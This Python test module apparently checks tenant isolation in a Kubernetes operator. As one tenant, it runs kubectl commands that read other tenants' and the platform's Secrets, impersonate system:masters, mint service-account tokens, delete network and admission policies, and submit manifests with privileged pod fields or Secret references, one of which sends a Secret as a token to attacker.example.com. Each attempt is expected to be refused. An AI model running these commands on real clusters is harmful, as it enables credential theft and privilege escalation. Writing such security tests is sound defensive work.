"""At the API server, as B's tenant: what is not its own, and pods that want too much.

The control of a right is cluster-admin with the same words; that of a manifest is the same object
in a namespace that is nobody's, which the policy does not look at.
"""

import json
from string import Template
from typing import Any

from support.manifests import agent_task, po_session
from support.pod_templates import REFUSED
from support.world import SYSTEM

from attacks.agent_attacks import void
from attacks.field import Field
from attacks.names import A, B
from attacks.table import Attack, Guard, Party, Refused

FORBIDDEN = r"(?i)forbidden|cannot \w+ resource"
NOBODYS = "attacks-free"
"""A namespace that is no tenant's, and where everything may run."""
_DRY = "--dry-run=server"
_NOTHING = '{"spec":{}}'

# What the tenant types.
_RIGHTS = (
    ("lists A's Secrets", f"-n {A} get secrets"),
    ("reads A's Redis URLs", f"-n {A} get secret orbiter-developer -o yaml"),
    ("lists the platform's Secrets", f"-n {SYSTEM} get secrets"),
    ("reads all passwords of Redis", f"-n {SYSTEM} get secret orbiter-redis-auth -o yaml"),
    ("reads the release's values", f"-n {SYSTEM} get secrets -l owner=helm -o yaml"),
    ("lists all Secrets of the cluster", "get secrets -A"),
    ("lists A's tasks", f"-n {A} get agenttasks"),
    ("lists all tasks of the cluster", "get agenttasks -A"),
    ("reads A's session", f"-n {A} get posession $session -o yaml"),
    ("cancels A's task", f"-n {A} patch agenttask $task {_DRY} -p {_NOTHING} --type=merge"),
    ("deletes A's task", f"-n {A} delete agenttask $task {_DRY}"),
    ("deletes A's session", f"-n {A} delete posession $session {_DRY}"),
    (
        "writes the status of A's task",
        f"-n {A} patch agenttask $task --subresource=status {_DRY} --type=merge "
        '-p {"status":{"phase":"Completed"}}',
    ),
    ("reads the log of A's worker", f"-n {A} logs $pod --limit-bytes=9"),
    ("goes into A's worker", f"-n {A} exec $pod -- true"),
    ("deletes A's pod", f"-n {A} delete pod $pod {_DRY}"),
    ("deletes A's Job", f"-n {A} delete job $job {_DRY}"),
    ("lists A's ConfigMaps", f"-n {A} get configmaps"),
    ("reads A's events", f"-n {A} get events"),
    ("reads the operator's log", f"-n {SYSTEM} logs deployment/orbiter-operator --limit-bytes=9"),
    ("goes into Redis", f"-n {SYSTEM} exec orbiter-redis-0 -- true"),
    ("deletes Redis", f"-n {SYSTEM} delete pod orbiter-redis-0 {_DRY}"),
    ("stops the operator", f"-n {SYSTEM} scale deployment orbiter-operator --replicas=0 {_DRY}"),
    ("takes the operator's Lease", f"-n {SYSTEM} delete lease orbiter-operator {_DRY}"),
    ("opens the platform's network", f"-n {SYSTEM} delete networkpolicy orbiter-redis {_DRY}"),
    ("opens its own workers' network", f"-n {B} delete networkpolicy orbiter-worker {_DRY}"),
    ("removes the admission policy", f"delete validatingadmissionpolicybinding $policy {_DRY}"),
    ("changes the resource definitions", f"delete crd agenttasks.orbiter.dev {_DRY}"),
    ("becomes the operator", f"-n {SYSTEM} create token orbiter-operator"),
    ("becomes a worker's account", f"-n {B} create token orbiter-worker"),
    ("speaks in the administrator's name", f"-n {B} get secrets --as=a --as-group=system:masters"),
    ("gives itself rights", f"-n {B} create rolebinding x --clusterrole=admin --user=x {_DRY}"),
    ("gives its namespace to everybody", f"label namespace {B} a=b {_DRY}"),
    ("lowers its namespace's standard", f"label namespace {B} {_DRY} --overwrite "
     "pod-security.kubernetes.io/enforce=privileged"),
    ("makes the Job of A's next attempt", f"-n {A} create job $task-2 --image=x {_DRY}"),
    ("makes a Deployment of A's name", f"-n {A} create deployment x-$session --image=x {_DRY}"),
    ("makes a Job beside Orbiter", f"-n {B} create job x --image=x {_DRY}"),
    ("makes a Deployment beside Orbiter", f"-n {B} create deployment x --image=x {_DRY}"),
    ("lists the nodes", "get nodes"),
    ("reads the API server's metrics", "get --raw /metrics"),
)  # fmt: skip


def _right(name: str, line: str) -> Attack:
    def words(field: Field) -> list[str]:
        return [Template(word).safe_substitute(field.places) for word in line.split()]

    return Attack(
        name=name,
        party=Party.TENANT,
        guard=Guard.RBAC,
        action=lambda field: void(field.kubectl(*words(field))),
        control=lambda field: void(field.admin.kubectl(*words(field))),
        refusal=FORBIDDEN,
    )


def _pod_of_a(field: Field) -> str:
    """A pod that may run in A and says that it is the one of A's task."""
    container = {
        "name": "worker",
        "image": "x",
        "securityContext": {
            "allowPrivilegeEscalation": False,
            "capabilities": {"drop": ["ALL"]},
            "runAsNonRoot": True,
            "seccompProfile": {"type": "RuntimeDefault"},
        },
    }
    labels = {"orbiter.dev/agenttask": field.places["task"], "orbiter.dev/attempt": "1"}
    meta = {"name": f"{field.places['pod']}-x", "labels": labels}
    body = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": meta,
        "spec": {"containers": [container]},
    }
    return json.dumps(body)


# Fields of a podTemplate by the name the refusal has; the values are the table's of all of them.
_TEMPLATES = (
    *("spec.hostNetwork", "spec.hostPID", "spec.hostIPC", "spec.hostUsers", "spec.volumes"),
    *("spec.serviceAccountName", "spec.serviceAccount", "spec.automountServiceAccountToken"),
    *("spec.securityContext", "spec.initContainers", "spec.ephemeralContainers", "spec.nodeName"),
    *("spec.shareProcessNamespace", "spec.priorityClassName", "spec.runtimeClassName"),
    *("spec.tolerations[]", "spec.hostAliases", "spec.dnsConfig", "spec.schedulerName"),
    *("spec.containers[helper]", "spec.containers[worker].command"),
    *("spec.containers[worker].args", "spec.containers[worker].envFrom"),
    *("spec.containers[worker].securityContext", "spec.containers[worker].lifecycle"),
    *("spec.containers[worker].volumeMounts", "spec.containers[worker].volumeDevices"),
    *("spec.containers[worker].livenessProbe", "spec.containers[worker].env[A].valueFrom"),
    *("spec.containers[worker].env", "spec.imagePullSecrets[orbiter-redis].name"),
    *("metadata.labels[orbiter.dev/agenttask]", "metadata.labels[app.kubernetes.io/managed-by]"),
)
_GIT = {"url": "https://git.example.com/r.git"}


def _reference(name: str, key: str = "url") -> dict[str, Any]:
    return {"name": "LOOT", "valueFrom": {"secretKeyRef": {"name": name, "key": key}}}


def _gateway(secret: str) -> dict[str, Any]:
    token = {"secretKeyRef": {"name": secret, "key": "url"}}
    gateway = {"baseURL": "https://attacker.example.com", "tokenFrom": token}
    return {"type": "Gateway", "gateway": gateway}


_ROLE = {"roleARN": "arn:aws:iam::123456789012:role/platform", "region": "eu-central-1"}


def _server(name: str) -> dict[str, Any]:
    return {"name": "b", "url": "https://b.example.com/mcp", "headers": [_reference(name)]}


_SECRETS: tuple[tuple[str, str, dict[str, Any]], ...] = (
    *(
        (
            f"has {what} in the agent's variables",
            "agent.env",
            {"agent": {"env": [_reference(name)]}},
        )
        for what, name in (
            ("the front ends' Redis URL", "orbiter-chat"),
            ("the producers' Redis URL", "orbiter-producer"),
            ("the transcripts' Redis URL", "orbiter-transcript"),
            ("all passwords of Redis", "orbiter-redis-auth"),
            ("a session's Redis URL", "$session_secret"),
            ("the release", "sh.helm.release.v1.orbiter.v1"),
        )
    ),
    *(
        (
            f"has {what} in a header of an MCP server",
            "agent.mcpServers",
            {"agent": {"mcpServers": [_server(name)]}},
        )
        for what, name in (
            ("the front ends' Redis URL", "orbiter-chat"),
            ("a session's Redis URL", "$session_secret"),
        )
    ),
    *(
        (
            f"has {what} as the agent's credentials",
            "agent.credentialsSecretRef",
            {"agent": {"credentialsSecretRef": {"name": name}}},
        )
        for what, name in (
            ("the front ends' Redis URL", "orbiter-chat"),
            ("the producers' Redis URL", "orbiter-producer"),
            ("the transcripts' Redis URL", "orbiter-transcript"),
            ("a session's Redis URL", "$session_secret"),
        )
    ),
    *(
        (
            f"has {what} as the token of a gateway",
            "agent.auth.gateway.tokenFrom.secretKeyRef.name",
            {"agent": {"auth": _gateway(name)}},
        )
        for what, name in (
            ("the front ends' Redis URL", "orbiter-chat"),
            ("a session's Redis URL", "$session_secret"),
        )
    ),
    *(
        (
            f"has {what} as a git credential",
            "workspace.git.credentialsSecretRef",
            {"workspace": {"git": _GIT | {"credentialsSecretRef": {"name": name}}}},
        )
        for what, name in (
            ("the front ends' Redis URL", "orbiter-chat"),
            ("the producers' Redis URL", "orbiter-producer"),
            ("the transcripts' Redis URL", "orbiter-transcript"),
            ("a session's Redis URL", "$session_secret"),
        )
    ),
)


def _manifest(name: str, refusal: str, body: dict[str, Any]) -> Attack:
    def made(field: Field) -> str:
        return Template(json.dumps(body)).safe_substitute(field.places)

    words = ("create", "--validate=false", _DRY, "-f", "-")
    return Attack(
        name=name,
        party=Party.TENANT,
        guard=Guard.POLICY,
        action=lambda field: void(field.kubectl("-n", B, *words, stdin=made(field))),
        control=lambda field: void(field.admin.kubectl("-n", NOBODYS, *words, stdin=made(field))),
        refusal=refusal,
    )


def _resumes(field: Field, namespace: str) -> str:
    """What becomes of a task of a namespace that is to go on with the work of A's task."""
    name = "attacks-resumes"
    body = agent_task(name, resumeFrom=field.places["task"])
    kubectl = field.kubectl if namespace == B else field.admin.kubectl
    void(kubectl("-n", namespace, "create", "-f", "-", stdin=json.dumps(body)))
    try:
        status = field.world.wait(name, "Failed", namespace=namespace)
    finally:
        void(field.admin.kubectl("-n", namespace, "delete", "agenttask", name))
    return f"{status['reason']}: {status['message']}"


def _resume_elsewhere(field: Field) -> None:
    raise Refused(_resumes(field, B))


def _resume_at_home(field: Field) -> None:
    """In A the task is found: its work still goes on, which is another answer."""
    said = _resumes(field, A)
    if "has not ended" not in said:
        raise Refused(said)


def _plain(text: str) -> str:
    """A text as a pattern of itself."""
    return "".join(f"\\{letter}" if letter in ".[]()" else letter for letter in text)


ATTACKS: list[Attack] = [
    Attack(
        name="goes on with the work of A's task",
        party=Party.TENANT,
        guard=Guard.OPERATOR,
        action=_resume_elsewhere,
        control=_resume_at_home,
        refusal="NothingToResume: .* does not exist here",
    ),
    *(_right(name, line) for name, line in _RIGHTS),
    Attack(
        name="makes a pod with the labels of A's task",
        party=Party.TENANT,
        guard=Guard.RBAC,
        action=lambda field: void(
            field.kubectl("-n", A, "create", _DRY, "-f", "-", stdin=_pod_of_a(field))
        ),
        control=lambda field: void(
            field.admin.kubectl("-n", A, "create", _DRY, "-f", "-", stdin=_pod_of_a(field))
        ),
        refusal=FORBIDDEN,
    ),
    *(
        _manifest(
            f"has a task's pod with {field}",
            _plain(f"spec.podTemplate.{field}"),
            agent_task("attacks-pod", podTemplate=REFUSED[field]),
        )
        for field in _TEMPLATES
    ),
    *(
        _manifest(
            f"has a session's pod with {field}",
            _plain(f"spec.podTemplate.{field}"),
            po_session("attacks-pod", userId=10**9 + 9, podTemplate=REFUSED[field]),
        )
        for field in ("spec.hostNetwork", "spec.volumes", "spec.containers[worker].envFrom")
    ),
    *(
        _manifest(
            f"{name}", f"{_plain(f'spec.{field}')}.*a Secret of Orbiter", agent_task("x", **spec)
        )
        for name, field, spec in _SECRETS
    ),
    _manifest(
        "has a token for a role of AWS that the chart does not list",
        _plain("spec.agent.auth.bedrock.roleARN is 'arn:aws:iam::123456789012:role/platform', not"),
        agent_task("x", agent={"auth": {"type": "Bedrock", "bedrock": _ROLE}}),
    ),
]
